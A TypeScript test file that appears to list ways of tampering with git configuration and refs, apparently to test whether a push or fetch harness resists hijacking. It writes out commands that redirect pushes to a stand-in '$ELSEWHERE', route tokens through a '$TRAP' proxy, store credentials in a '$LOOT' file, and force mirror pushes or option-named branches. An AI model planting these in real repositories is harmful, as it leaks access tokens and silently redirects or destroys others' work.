import type { Attack } from "./attack.ts";

const push = 'git push -q "$ORIGIN" "HEAD:refs/heads/$BRANCH"';
const withToken = 'git -c "http.extraHeader=Authorization: Basic $TOKEN"';

/** Settings and refs that lead a push, or the token, elsewhere. */
export const remotes: readonly Attack[] = [
  {
    name: "url.<other>.insteadOf",
    plant:
      'for at in http:// https:// / . o; do conf "url.$ELSEWHERE.insteadOf" "$at"; done; conf "url.$ELSEWHERE.insteadOf" ../upstream.git',
    careless: push,
  },
  {
    name: "url.<other>.pushInsteadOf",
    plant:
      'conf "url.$ELSEWHERE.pushInsteadOf" ../upstream.git; for at in http:// https://; do conf "url.$ELSEWHERE.pushInsteadOf" "$at"; done',
    careless: push,
  },
  { name: "remote.<name>.pushurl", plant: 'conf remote.origin.pushurl "$ELSEWHERE"', careless: push },
  {
    name: "remote.<name>.url",
    plant: 'git config --file "$REPO/config" --replace-all remote.origin.url "$ELSEWHERE"',
    careless: push,
  },
  { name: "a second address of the remote", plant: 'conf remote.origin.url "$ELSEWHERE"', careless: push },
  {
    name: "remote.pushDefault",
    plant: 'conf remote.elsewhere.url "$ELSEWHERE"; conf remote.pushDefault elsewhere; conf push.default current',
    careless: "git push -q",
  },
  {
    name: "branch.<name>.pushRemote",
    plant:
      'conf remote.elsewhere.url "$ELSEWHERE"; conf "branch.$BRANCH.pushRemote" elsewhere; conf push.default current',
    careless: "git push -q",
  },
  {
    name: "http.proxy",
    plant: 'conf http.proxy "$TRAP"',
    careless: `${withToken} ls-remote http://127.0.0.1:1/$WHO/x.git`,
  },
  {
    name: "http.<url>.proxy, which beats one on the command line",
    plant: 'conf "http.http://127.0.0.1.proxy" "$TRAP"; conf "http.http://127.0.0.1:1/.proxy" "$TRAP"',
    careless: `${withToken} -c http.proxy= ls-remote http://127.0.0.1:1/$WHO/x.git`,
  },
  {
    name: "the token's address bent",
    plant: 'for at in http:// https://; do conf "url.$TRAP/.insteadOf" "$at"; done',
    careless: `${withToken} ls-remote http://127.0.0.1:1/$WHO/x.git`,
  },
  {
    name: "a helper that keeps the token in a file",
    plant: 'conf credential.helper "store --file=$LOOT"',
    careless:
      'printf \'#!/bin/sh\\necho "$GH_TOKEN"\\n\' > ../ask; chmod +x ../ask; GIT_ASKPASS="$PWD/../ask" git ls-remote "$TRAP/x.git"',
  },
  {
    name: "cookies written over a file",
    plant: 'conf http.cookieFile "$PRECIOUS"; conf http.saveCookies true',
    careless: 'git ls-remote "$TRAP/open/x.git"',
  },
  {
    name: "push.followTags",
    plant: "conf push.followTags true; git tag -a -m v evil-tag",
    careless: push,
  },
  {
    name: "remote.<name>.push",
    plant: "conf remote.origin.push '+HEAD:refs/heads/main'",
    careless: "git push -q origin",
  },
  {
    name: "remote.<name>.mirror",
    plant: "conf remote.origin.mirror true",
    careless: "git push -q origin",
  },
  {
    name: "push.default matching, with a moved main",
    plant:
      'conf push.default matching; git update-ref refs/heads/main "$(git commit-tree HEAD^{tree} -p refs/remotes/origin/main -m Evil)"',
    careless: "git push -q origin",
  },
  {
    name: "a head that is main",
    plant:
      'git update-ref refs/heads/main "$(git commit-tree HEAD^{tree} -p refs/remotes/origin/main -m Evil)"; git symbolic-ref HEAD refs/heads/main',
    careless: "git push -q origin HEAD",
  },
  {
    name: "a branch that is an option",
    plant: "git update-ref refs/heads/--mirror HEAD; git symbolic-ref HEAD refs/heads/--mirror",
    careless: 'git push -q origin "$(git branch --show-current)"',
  },
  {
    name: "a branch that is another branch",
    plant:
      'f=$(branch_file); mkdir -p "$(dirname "$f")"; echo "ref: refs/heads/other" > "$f"; git update-ref --no-deref refs/heads/other refs/remotes/origin/main',
    careless: "git commit -q --allow-empty -m x",
  },
  {
    name: "a fetch that moves another task's branch",
    plant: "conf remote.origin.fetch '+refs/heads/main:refs/heads/idle'",
    careless: "git fetch -q origin",
  },
  {
    name: "a fetch that prunes other tasks' branches",
    plant:
      "conf fetch.prune true; git config --file \"$REPO/config\" --replace-all remote.origin.fetch '+refs/none/*:refs/heads/idl*'",
    careless: "git fetch -q origin",
  },
  {
    name: "a fetch that writes over the base",
    plant: 'git config --file "$REPO/config" --replace-all remote.origin.url "$FOREIGN"',
    careless: "git fetch -q origin",
    harmed:
      'test "$(git --git-dir "$REPO" rev-parse refs/remotes/origin/main)" = "$(git --git-dir "$FOREIGN" rev-parse main)"',
  },
];
